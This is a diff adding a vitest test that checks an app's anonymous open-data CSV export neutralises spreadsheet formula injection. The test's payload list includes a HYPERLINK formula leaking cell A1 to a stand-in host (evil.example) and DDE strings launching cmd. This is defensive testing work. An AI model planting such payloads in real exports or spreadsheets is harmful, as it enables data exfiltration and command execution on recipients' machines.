@@ -7,6 +7,7 @@
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { decodeCsv, unescapeFormulaCell } from '@jixiao/core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { BACKENDS, Client, errorCode, loggedIn, PASSWORD, seedTables, startTestServer, type Res, type TestServer } from '../helpers.ts';
 import { json, raw } from './raw-http.ts';
@@ -77,6 +78,31 @@ describe.each(BACKENDS)('the outside test’s reproductions are refused (%s)', (
     }
     // Still the old password: nothing was changed.
     expect((await new Client(s.url).login(s.world.logins.deptFiler, PASSWORD)).status).toBe(200);
+  });
+
+  it('4. the anonymous open-data CSV escapes formula-leading cells', async () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
+    const doc = structuredClone(clean.find((t) => t.kind === 'project')!) as any;
+    doc.projectName = { raw: formulas[0] };
+    formulas.slice(1).forEach((f, i) => (doc.indicators[i].name = { raw: f }));
+    const created = await filer.post('/api/tables', { orgId: s.world.orgs.unit.id, document: doc });
+    expect(created.status, JSON.stringify(created.body).slice(0, 300)).toBe(201);
+    const id = created.body.table.id;
+    const dr = await loggedIn(s.url, s.world.logins.deptReviewer);
+    const fin = await loggedIn(s.url, s.world.logins.finance);
+    for (const [c, step] of [[filer, 'submit'], [dr, 'approve'], [fin, 'approve'], [fin, 'publish']] as const) {
+      const r = await c.post(`/api/tables/${id}/${step}`, {});
+      expect(r.status, `${step}: ${JSON.stringify(r.body).slice(0, 300)}`).toBe(200);
+    }
+    const res = await new Client(s.url).get('/api/open-data/indicators.csv?region=440823&year=2026');
+    expect(res.status).toBe(200);
+    const rows = decodeCsv(String(res.body));
+    const cells = rows.slice(1).flat();
+    // No cell a spreadsheet would run: each of them starts with the apostrophe that marks text …
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    // … and reads back to exactly what was filed.
+    const back = new Set(cells.map(unescapeFormulaCell));
+    for (const f of formulas) expect(back.has(f), f).toBe(true);
   });
 
   it('state-changing requests from another site are refused even with the right token (403 origin_refused)', async () => {
